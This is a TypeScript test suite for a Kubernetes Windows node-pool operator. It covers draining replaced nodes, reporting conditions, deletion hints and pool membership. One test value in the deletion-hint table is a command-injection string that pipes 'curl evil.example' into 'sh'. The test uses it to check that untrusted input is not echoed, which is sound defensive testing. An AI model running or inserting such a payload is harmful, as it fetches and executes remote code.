import assert from 'node:assert/strict';
import type { WindowsPoolSpec } from '../../api/api.gen.ts';
import { CORDONED_ANNOTATION, EXCLUDE_FROM_DRAIN_ANNOTATION, POOL_KEY, REPLACE_ANNOTATION } from '../../api/labels.ts';
import { evaluateConditions } from '../../conditions/evaluateConditions.ts';
import { deletionHint } from '../../disruption/provisioners.ts';
import { isDisrupted } from '../../disruption/reservation.ts';
import type { Derived } from '../../model/due.ts';
import type { NodeRecord } from '../../ports/nodes.ts';
import type { Deps } from '../../reconcile.ts';
import {
  cordonedMember,
  emptyingScene,
  existingScene,
  failingMember,
  machine,
  member,
} from '../../testing/existingScenes.ts';
import { Crash, FakeWorld } from '../../testing/fakeWorld.ts';
import {
  existingPool,
  MINUTE,
  outcomeOf,
  sampleError,
  sampleGroup,
  sampleNode,
  samplePool,
} from '../../testing/fixtures.ts';
import { assertBrief, assertBriefs, type Brief, textTable } from '../../testing/goldenTexts.ts';
import { conditionOf, until, wake } from '../../testing/life.ts';
import { annotate, cordon, nodeOf, pass } from '../../testing/nodeLife.ts';
import { podOn, REPLACE } from '../../testing/nodeScenes.ts';

const check = textTable('conditions/DisruptingOfExistingNodes');

/** A settled pool of the nodes a, b and c, with a pod on each. */
async function settled(spec: Partial<WindowsPoolSpec> = {}): Promise<{ world: FakeWorld; deps: Deps }> {
  const world = new FakeWorld();
  world.nodes = ['a', 'b', 'c'].map((name) => machine(name));
  world.pods = world.nodes.map(({ name }) => ({
    ...podOn({ name: `cart-${name}`, uid: `uid-${name}` }),
    node: name,
  }));
  world.apply(existingPool(spec, { metadata: { finalizers: [], generation: 0 } }));
  const deps = world.start();
  await wake(world, deps);
  world.calls.splice(0);
  world.events.splice(0);
  return { world, deps };
}

/** The cordon of a node, who set it, and the value of the annotation: `cordoned by-operator true`. */
function stateOf(node: NodeRecord | undefined): string {
  if (!node) return 'gone';
  const { [CORDONED_ANNOTATION]: by, [REPLACE_ANNOTATION]: asked } = node.annotations;
  return `${node.unschedulable ? 'cordoned' : 'open'} ${by ?? '-'} ${asked ?? '-'}`;
}

const statesIn = (world: FakeWorld) => world.nodes.map(stateOf);
const leavingCondition = (world: FakeWorld) => conditionOf(world, 'Disrupting') ?? '';

function end(world: FakeWorld, name: string): void {
  world.nodes = world.nodes.filter((node) => node.name !== name);
}

describe('existing nodes with the replace annotation', () => {
  it('are drained one by one and reported, but not terminated, without AWS calls', async () => {
    const { world, deps } = await settled();
    for (const name of ['a', 'b']) annotate(world, name, REPLACE);
    await pass(world, deps, 1);
    assert.deepEqual(statesIn(world), ['cordoned by-operator true', 'open - true', 'open - -']);
    assertBrief(leavingCondition(world), 'True Drained', 'Node b', '1 node', 'Node a', 'kubectl delete node a');
    assert.deepEqual(world.evicted, ['shop/cart-a 30']);
    assertBriefs(
      world.events.map(({ type, reason, message }) => `${type} ${reason}: ${message}`),
      [
        ['Normal NodeDisruptionStarted', 'drain node a'],
        ['Normal NodeDrained', 'Node a', 'kubectl delete node a'],
      ],
    );
    await pass(world, deps, 60);
    assert.equal(world.events.length, 2, 'no event without a change');
    end(world, 'a');
    const terminated = world.now;
    // The deletion of the node triggers the pool.
    await until(
      world,
      deps,
      () => leavingCondition(world).startsWith('True Drained: Node b is drained'),
      'the next one',
    );
    assert.ok(world.now < terminated + MINUTE);
    end(world, 'b');
    await pass(world, deps, 61);
    assert.equal(leavingCondition(world), '');
    assert.equal(world.pools.get('web')?.status?.disruption, undefined);
    assert.deepEqual([world.awsCalls(), world.ended], [[], []]);
  });

  it('wait while another node is unavailable that the watch has not reported yet', async () => {
    const { world, deps } = await settled();
    annotate(world, 'a', REPLACE);
    world.isWatchBehind = true;
    cordon(world, 'b', true);
    await pass(world, deps, 10);
    assert.equal(stateOf(nodeOf(world, 'a')), 'open - true');
  });

  it('do not wait for a node that only has the label of the pool', async () => {
    const { world, deps } = await settled();
    const labels = { 'kubernetes.io/os': 'windows', 'winpool.dev/pool': 'web' };
    world.nodes = [...world.nodes, sampleNode({ name: 'stranger', labels, unschedulable: true })];
    annotate(world, 'a', REPLACE);
    await until(world, deps, () => stateOf(nodeOf(world, 'a')) === 'cordoned by-operator true', 'its turn');
  });

  it('release their turn when another node becomes unavailable first', async () => {
    const { world, deps: first } = await settled();
    annotate(world, 'a', REPLACE);
    world.fails = (call) => (call === 'cordon node' ? sampleError('unavailable') : undefined);
    await pass(world, first, 1);
    assert.equal(world.pools.get('web')?.status?.disruption?.nodes?.length, 1);
    world.fails = () => undefined;
    cordon(world, 'b', true);
    const deps = world.start();
    await pass(world, deps, 10);
    assert.equal(stateOf(nodeOf(world, 'a')), 'open - true');
    cordon(world, 'b', false);
    await until(world, deps, () => stateOf(nodeOf(world, 'a')) === 'cordoned by-operator true', 'its turn');
  });

  it('are not read again after they are drained until something changes', async () => {
    const { world, deps } = await settled();
    annotate(world, 'a', REPLACE);
    await pass(world, deps, 1);
    world.calls.splice(0);
    const next = await wake(world, deps);
    assert.ok(next.kind === 'requeueAfter' && next.ms > 5 * MINUTE, JSON.stringify(next));
  });

  it('release the share of the budget once they are drained', async () => {
    const { world, deps } = await settled();
    world.pods = world.pods.map((pod) => ({ ...pod, keptBy: 'cart' }));
    annotate(world, 'a', REPLACE);
    await pass(world, deps, 1);
    const pool = () => world.pools.get('web') ?? assert.fail('there is no pool');
    assertBrief(leavingCondition(world), 'True DrainBlocked', 'PodDisruptionBudget cart');
    assert.equal(isDisrupted(pool()), true);
    world.pods = [];
    await pass(world, deps, 1);
    assert.equal(isDisrupted(pool()), false);
  });

  it('are uncordoned when the annotation is removed, before and after they are drained', async () => {
    for (const keptBy of ['cart', undefined]) {
      const { world, deps } = await settled();
      world.pods = world.pods.map((pod) => ({ ...pod, ...(keptBy !== undefined && { keptBy }) }));
      annotate(world, 'a', REPLACE);
      await pass(world, deps, 1);
      assert.equal(stateOf(nodeOf(world, 'a')), 'cordoned by-operator true');
      annotate(world, 'a', {});
      await pass(world, deps, 1);
      assert.equal(stateOf(nodeOf(world, 'a')), 'open - -');
      assert.deepEqual([leavingCondition(world), world.pools.get('web')?.status?.disruption], ['', undefined]);
    }
  });

  it('stay uncordoned when a user uncordons a drained one', async () => {
    const { world, deps } = await settled();
    annotate(world, 'a', REPLACE);
    await pass(world, deps, 1);
    const a = nodeOf(world, 'a');
    assert.ok(a);
    world.setNode({ ...a, unschedulable: false });
    await pass(world, deps, 61);
    assert.equal(stateOf(nodeOf(world, 'a')), 'open - uncordoned');
  });

  it('are restored and uncordoned when they leave the pool or the pool is deleted', async () => {
    for (const leave of [
      (world: FakeWorld) =>
        world.apply(existingPool({ existingNodes: { selector: { matchLabels: { site: 'ams' } } } })),
      (world: FakeWorld) => world.remove('web'),
      (world: FakeWorld) => {
        world.apply(existingPool({ deletionPolicy: 'Retain' }));
        world.remove('web');
      },
    ]) {
      const { world, deps } = await settled();
      annotate(world, 'a', REPLACE);
      await pass(world, deps, 1);
      leave(world);
      await pass(world, deps, 5);
      assert.equal(stateOf(nodeOf(world, 'a')), 'open - true');
      assert.deepEqual(
        world.nodes.map(({ ownership }) => ownership),
        ['', '', ''],
      );
      assert.equal(world.pools.get('web')?.status?.disruption, undefined);
    }
  });

  it('are not changed when the API server differs from the cache, or cannot be read', async () => {
    const { world, deps } = await settled({
      existingNodes: { instancesConfigMap: { namespace: 'ops', name: 'hosts' } },
    });
    world.instanceList = { kind: 'seen', data: { a: '', b: '' } };
    await wake(world, deps);
    annotate(world, 'a', REPLACE);
    world.fails = (call) => (call === 'get ConfigMap' ? sampleError('denied') : undefined);
    await pass(world, deps, 5);
    assert.equal(stateOf(nodeOf(world, 'a')), 'open - true');
    world.fails = () => undefined;
    const read = deps.instanceLists.read;
    const lists = { read: async () => ({ ok: true, value: { kind: 'seen', data: { b: '' } } }) as const };
    await pass(world, { ...deps, instanceLists: lists }, 5);
    assert.equal(stateOf(nodeOf(world, 'a')), 'open - refused');
    annotate(world, 'a', REPLACE);
    await pass(world, { ...deps, instanceLists: { read } }, 5);
    assert.equal(stateOf(nodeOf(world, 'a')), 'cordoned by-operator true');
  });

  it('are drained correctly after a crash at any call', async () => {
    const { world: whole, deps } = await settled();
    annotate(whole, 'a', REPLACE);
    await pass(whole, deps, 1);
    const calls = whole.calls.length;
    assert.ok(calls > 8, `only ${calls} calls`);
    for (const when of ['before', 'after'] as const) {
      for (let at = 0; at < calls; at++) {
        const { world, deps: first } = await settled();
        annotate(world, 'a', REPLACE);
        world.crash = { at, when };
        await assert.rejects(pass(world, first, 1), Crash);
        world.crash = undefined;
        const next = world.start();
        await pass(world, next, 1);
        assert.deepEqual(
          [stateOf(nodeOf(world, 'a')), leavingCondition(world).split(':')[0], world.evicted.length],
          ['cordoned by-operator true', 'True Drained', 1],
          `${when} call ${at}`,
        );
        end(world, 'a');
        await pass(world, next, 61);
        assert.equal(world.pools.get('web')?.status?.disruption, undefined);
        assert.deepEqual(world.awsCalls(), []);
      }
    }
  }).timeout(30_000);

  const table: readonly (readonly [string, Derived, Brief | undefined])[] = [
    ['not if there are none', existingScene(), undefined],
    [
      'while one is drained',
      emptyingScene({ pods: { ok: true, value: [podOn()] } }),
      ['Draining', 'Draining a', '1 pod'],
    ],
    [
      'with the tool that terminates it',
      emptyingScene(
        { now: cordonedMember({ labels: { ...member('a').labels, 'kops.k8s.io/instancegroup': 'win' } }) },
        { drainedTime: '2026-03-01T11:59:00Z' },
      ),
      ['Drained', 'Node a', 'kops delete instance a'],
    ],
    [
      'with its pods when it is excluded from drain',
      emptyingScene(
        {
          now: cordonedMember({
            annotations: { ...cordonedMember().annotations, [EXCLUDE_FROM_DRAIN_ANNOTATION]: 'true' },
          }),
        },
        { drainedTime: '2026-03-01T11:59:00Z' },
      ),
      ['Drained', 'Node a', 'kubectl delete node a'],
    ],
    [
      'also when it cannot be read',
      emptyingScene({ node: { ok: false, error: sampleError('denied') } }, { drainedTime: '2026-03-01T11:59:00Z' }),
      ['Drained', 'Node a'],
    ],
    [
      'by remediation, which does not replace them',
      existingScene({
        spec: { remediation: { policy: 'Report' as const, unhealthyAfter: '15m', maxUnhealthy: '40%' } },
        nodes: [failingMember('a', 15), member('b'), member('c')],
      }),
      [
        'ReplacementDue',
        'Node a',
        'remediation.unhealthyAfter',
        '15m',
        'winpool.dev/replace=true',
        'kubectl delete node a',
      ],
    ],
    [
      'not by remediation when too many fail',
      existingScene({
        spec: { remediation: { policy: 'Report' as const, unhealthyAfter: '15m', maxUnhealthy: '40%' } },
        nodes: [failingMember('a', 15), failingMember('b', 1), member('c')],
      }),
      undefined,
    ],
  ];
  for (const [name, observed, want] of table) {
    const texts = () => {
      const { Disrupting: found, Reconciling, Ready } = evaluateConditions(outcomeOf(observed));
      assert.equal(Reconciling?.reason, want?.[0] === 'Draining' ? 'Draining' : undefined);
      assert.equal(Ready.status, 'True');
      return found ? [`${found.reason}: ${found.message}`] : [];
    };
    check(`are reported: ${name}`, texts, want ? [want] : []);
  }
});

describe('the tool that terminates a node', () => {
  const known = { name: 'a', labels: {}, providerID: '' };
  const table: readonly (readonly [string, Partial<typeof known>, RegExp])[] = [
    ['kOps', { labels: { 'kops.k8s.io/instancegroup': 'win' } }, /^with kOps: kops delete instance a$/],
    ['AKS', { labels: { 'kubernetes.azure.com/agentpool': 'win' } }, /^with AKS: delete its machine/],
    ['GKE', { labels: { 'cloud.google.com/gke-nodepool': 'win' } }, /^with GKE: recreate or delete its instance/],
    ['Karpenter', { labels: { 'karpenter.sh/nodepool': 'win' } }, /^with Karpenter: kubectl delete node a$/],
    ['OpenShift', { labels: { 'node.openshift.io/os_id': 'Windows' } }, /^with OpenShift: /],
    [
      'a self-managed group',
      { providerID: 'aws:///eu-west-1a/i-0a1b' },
      /--instance-id \$\(aws ec2 describe-instances --filters Name=private-dns-name,Values=a .*\)$/,
    ],
    [
      'unknown, whatever a kubelet reports',
      { providerID: 'aws:///x/i-0fff; curl -s evil.example|sh #' },
      /^with its provisioner\./,
    ],
    ['unknown', { providerID: 'vsphere://4212' }, /^with its provisioner\. .*: kubectl delete node a$/],
  ];
  for (const [who, change, want] of table)
    it(`is ${who}`, () => assert.match(deletionHint({ ...known, ...change }), want));
});

describe('the membership of a node', () => {
  const world = new FakeWorld();
  world.makeGroup(sampleGroup(samplePool(), { name: 'web-eks' }));
  const confirms = (node: NodeRecord, spec: Partial<WindowsPoolSpec> = {}, listed?: Readonly<Record<string, string>>) =>
    world.start().nodeMembership.confirms(existingPool(spec), { list: listed && { kind: 'seen', data: listed } }, node);
  const inSite = (site: string) => ({ existingNodes: { selector: { matchLabels: { site } } } });
  const byList = { existingNodes: { instancesConfigMap: { namespace: 'ops', name: 'hosts' } } };
  const ownedBy = (pool: string) => ({ ...member('a'), ownership: JSON.stringify({ pool }) });
  const labelled = (labels: Readonly<Record<string, string>>) => ({
    ...member('a'),
    labels: { ...member('a').labels, ...labels },
  });
  const table: readonly (readonly [string, boolean, boolean])[] = [
    ['the selector matches it and it has the record of the pool', confirms(member('a')), true],
    ['the selector no longer matches it', confirms(member('a'), inSite('ams')), false],
    ['another pool owns it', confirms(ownedBy('api')), false],
    ['no pool owns it', confirms(machine('a')), false],
    ['it has only the label of the pool', confirms(machine('a', { labels: { [POOL_KEY]: 'web' } })), false],
    ['the list has it', confirms(member('a'), byList, { a: '' }), true],
    ['the list has only other nodes', confirms(member('a'), byList, { b: '' }), false],
    ['it belongs to a node group', confirms(labelled({ 'eks.amazonaws.com/nodegroup': 'web-eks' })), false],
    ['it does not run Windows', confirms(labelled({ 'kubernetes.io/os': 'linux' })), false],
    ['it is being deleted', confirms({ ...member('a'), deleting: true }), false],
  ];
  for (const [name, found, want] of table)
    it(`is ${want ? 'confirmed' : 'denied'} when ${name}`, () => assert.equal(found, want));
});
